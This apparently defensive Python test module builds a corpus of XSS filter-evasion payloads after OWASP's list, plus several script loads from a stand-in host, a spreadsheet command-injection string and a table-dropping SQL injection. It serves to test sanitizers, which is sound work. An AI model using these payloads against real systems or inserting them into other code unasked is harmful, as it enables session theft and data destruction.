"""An XSS corpus: classic payloads (after OWASP's filter-evasion list) in many contexts.

Every payload that would run sets ``window.__pwned`` or opens a dialog, so a
test can tell whether anything executed.
"""

# ruff: noqa: E501 - payloads are verbatim one-liners from the filter-evasion list
from __future__ import annotations

_RUN = "window.__pwned=1;alert(1)"

PAYLOADS = [
    f"<script>{_RUN}</script>",
    "<SCRIPT SRC=http://xss.invalid/xss.js></SCRIPT>",
    f"<script>/*</script><script>{_RUN}</script>",
    f'<IMG SRC="javascript:{_RUN};">',
    f"<IMG SRC=javascript:{_RUN}>",
    f"<IMG SRC=JaVaScRiPt:{_RUN}>",
    f"<IMG SRC=`javascript:{_RUN}`>",
    f'<IMG """><SCRIPT>{_RUN}</SCRIPT>"\\>',
    f'<IMG SRC=# onmouseover="{_RUN}">',
    f'<IMG SRC= onmouseover="{_RUN}">',
    f'<IMG onmouseover="{_RUN}">',
    f'<IMG SRC=/ onerror="{_RUN}"></img>',
    f"<img src=x onerror={_RUN}>",
    f'"><img src=x onerror={_RUN}>',
    f"'><img src=x onerror={_RUN}>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61>",
    f'<IMG SRC="jav\tascript:{_RUN};">',
    f'<IMG SRC="jav&#x09;ascript:{_RUN};">',
    f'<IMG SRC="jav&#x0A;ascript:{_RUN};">',
    f'<IMG SRC=" &#14;  javascript:{_RUN};">',
    '<SCRIPT/XSS SRC="http://xss.invalid/xss.js"></SCRIPT>',
    f"<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`={_RUN}>",
    f"<<SCRIPT>{_RUN};//\\<</SCRIPT>",
    "<SCRIPT SRC=http://xss.invalid/xss.js?< B >",
    f'<IMG SRC="`<javascript:{_RUN}>`">',
    f"</TITLE><SCRIPT>{_RUN}</SCRIPT>",
    f'<INPUT TYPE="IMAGE" SRC="javascript:{_RUN};">',
    f'<BODY BACKGROUND="javascript:{_RUN}">',
    f"<svg/onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{_RUN}"><text x=20 y=20>XSS</text></a></svg>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f'<BGSOUND SRC="javascript:{_RUN};">',
    f'<LINK REL="stylesheet" HREF="javascript:{_RUN};">',
    '<LINK REL="stylesheet" HREF="http://xss.invalid/xss.css">',
    "<STYLE>@import'http://xss.invalid/xss.css';</STYLE>",
    '<META HTTP-EQUIV="Link" Content="<http://xss.invalid/xss.css>; REL=stylesheet">',
    '<STYLE>BODY{-moz-binding:url("http://xss.invalid/xssmoz.xml#xss")}</STYLE>',
    f"<STYLE>@im\\port'\\ja\\vasc\\ript:{_RUN}';</STYLE>",
    f'<IMG STYLE="xss:expr/*XSS*/ession({_RUN})">',
    f'<div style="width: expression({_RUN});">',
    f'<STYLE TYPE="text/javascript">{_RUN};</STYLE>',
    "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
    '<STYLE type="text/css">BODY{background:url("javascript:alert(\'XSS\')")}</STYLE>',
    f'<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:{_RUN};">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    f'<IFRAME SRC="javascript:{_RUN};"></IFRAME>',
    f'<IFRAME SRC=# onmouseover="{_RUN}"></IFRAME>',
    f'<FRAMESET><FRAME SRC="javascript:{_RUN};"></FRAMESET>',
    f'<TABLE BACKGROUND="javascript:{_RUN}">',
    f'<TABLE><TD BACKGROUND="javascript:{_RUN}">',
    f'<DIV STYLE="background-image: url(javascript:{_RUN})">',
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">",
    f'<BASE HREF="javascript:{_RUN};//">',
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.invalid/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    f'<a href="javascript:{_RUN}">click</a>',
    f"javascript:{_RUN}",
    "JaVaScRiPt:alert(1)",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+",
    "vbscript:msgbox(1)",
    f"</textarea><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</td></tr></table><script>{_RUN}</script>",
    f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f'<!--<img src="--><img src=x onerror={_RUN}//">',
    f"<details open ontoggle={_RUN}>",
    f"<marquee onstart={_RUN}>",
    f'<video><source onerror="{_RUN}">',
    f"<audio src=x onerror={_RUN}>",
    f"<body onpageshow={_RUN}>",
    f"<form><button formaction=javascript:{_RUN}>X</button>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}>",
    f"<textarea autofocus onfocus={_RUN}>",
    f"<keygen autofocus onfocus={_RUN}>",
    f'<object data="javascript:{_RUN}">',
    f"<isindex type=image src=1 onerror={_RUN}>",
    f'<img src="x` `<script>{_RUN}</script>"` `>',
    f'<a href="&#1;javascript:{_RUN}">x</a>',
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    f"<template><script>{_RUN}</script></template>",
    '<iframe srcdoc="<script>parent.__pwned=1</script>">',
    '<base href="http://xss.invalid/">',
    '<meta charset="x-imap4-modified-utf7">&ADz&AGn&AG0&AEf&ACA&AHM&AHI&AGO&AD0&AGn&ACA&AG8Abg&AGUAcgByAG8AcgA9AGEAbABlAHIAdAAoADEAKQ&ACAAPABi',
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    f"<x onclick={_RUN}>click me",
    f"<a id=x tabindex=1 onfocusin={_RUN}></a>",
    f"<div draggable=true ondragstart={_RUN}>drag</div>",
    f"<style>@keyframes x{{}}</style><div style=animation-name:x onanimationstart={_RUN}></div>",
    "=cmd|' /C calc'!A0",
    "'; DROP TABLE users; --",
    "\u202e<script>alert(1)</script>",
    "\x00<script>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    '<img src=x onerror="&#x61;lert(1)">',
    f"<svg><style><img src=x onerror={_RUN}></style></svg>",
    f"<math><style><img src=x onerror={_RUN}></style></math>",
]

# Each payload also appears after text that tries to close the surrounding markup.
_PREFIXES = ["", '">', "'>", "</td></tr></table>", "</ul></li>"]


def corpus() -> list[str]:
    """At least 200 distinct hostile strings."""
    items: list[str] = []
    for prefix in _PREFIXES:
        for payload in PAYLOADS:
            text = prefix + payload
            if text not in items:
                items.append(text)
    return items
